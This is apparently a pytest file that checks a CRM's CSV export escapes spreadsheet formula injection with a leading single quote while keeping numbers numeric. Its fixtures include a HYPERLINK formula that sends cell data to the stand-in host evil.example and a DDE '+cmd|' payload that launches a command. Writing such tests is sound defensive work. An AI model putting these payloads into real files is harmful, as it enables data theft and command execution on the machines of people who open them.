"""`crm export` of customer text a spreadsheet would evaluate: every such cell is written as
text (OWASP's rule: a leading single quote), and every number still a number that the
QuickBooks import rules of tests/test_export.py accept.

Failed on the code before the fix (checked by hand): invoices.csv, payments.csv and
refunds.csv carried `=HYPERLINK(...)` and `+cmd|...` unchanged at the start of their cells.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from datetime import date
from pathlib import Path
from typing import Any

import psycopg

from crm.money.csv_cells import FORMULA_STARTS, csv_text, safe_cell
from ops import seed
from tests.test_export import NOW, TZ, _read, check_invoices, check_journal

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
EVIL_LINE = "+cmd|' /C calc'!A0"


def _evaluated(cell: str) -> bool:
    """What Excel or LibreOffice would run as a formula: a cell starting with a trigger that
    is not a plain number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_formula_crm_export_writes_no_cell_a_spreadsheet_would_evaluate(
        db: psycopg.Connection[Any], database_url: str, tmp_path: Path) -> None:
    seed.load(db, seed.generate(NOW), NOW)
    db.execute("INSERT INTO crm.settings (key, value) VALUES ('business.timezone', %s::jsonb)", (f'"{TZ}"',))
    paid = db.execute("SELECT p.id, p.invoice_id, i.customer_id FROM crm.payments p JOIN crm.invoices i "
                      "ON i.id = p.invoice_id WHERE p.paid_at >= '2026-05-10' AND p.paid_at < '2026-05-20' "
                      "ORDER BY p.id LIMIT 1").fetchone()
    assert paid is not None
    db.execute("UPDATE crm.customers SET name = %s WHERE id = %s", (EVIL_NAME, paid["customer_id"]))
    db.execute("UPDATE crm.invoice_lines SET description = %s WHERE invoice_id = %s", (EVIL_LINE, paid["invoice_id"]))
    db.execute("UPDATE crm.invoices SET amount_refunded_cents = 2500 WHERE id = %s", (paid["invoice_id"],))
    db.execute("INSERT INTO crm.refunds (invoice_id, payment_id, mode, stripe_refund_id, amount_cents, currency, "
               "status, reason, created_at) VALUES (%s, %s, 'test', 're_formula_1', 2500, 'usd', 'succeeded', "
               "'requested_by_customer', '2026-05-21 15:00+00')", (paid["invoice_id"], paid["id"]))
    out = tmp_path / "may"
    run = subprocess.run([sys.executable, "-m", "crm", "export", "--from", "2026-05-01", "--to", "2026-05-31",
                          "--out", str(out)], capture_output=True, text=True,
                         env={**os.environ, "DATABASE_URL": database_url}, timeout=120)
    assert run.returncode == 0, run.stderr

    seen: set[str] = set()
    for name in ("invoices.csv", "payments.csv", "refunds.csv", "fees.csv", "disputes.csv"):
        with (out / name).open(newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if _evaluated(c)], name
        seen.update(c for c in cells if EVIL_NAME in c or EVIL_LINE in c)
    assert seen == {"'" + EVIL_NAME, "'" + EVIL_LINE}
    # Numbers stay numbers, and the files still follow QuickBooks' import rules.
    start, end = date(2026, 5, 1), date(2026, 5, 31)
    assert check_invoices(_read(out / "invoices.csv")[1], start, end) > 0
    assert check_journal(_read(out / "refunds.csv")[1], start, end)[0] == 2500


def test_formula_cells_owasp_rule_and_numbers() -> None:
    assert [safe_cell(v) for v in ["=1+2", "+1", "-A1", "@SUM(A1)", "\tx", "\rx", "-12.50", "12", -3, "Dana"]] \
        == ["'=1+2", "'+1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "-12.50", "12", -3, "Dana"]
    assert csv_text(("a", "b"), [{"a": "=cmd", "b": "-2.50"}]) == "a,b\r\n'=cmd,-2.50\r\n"
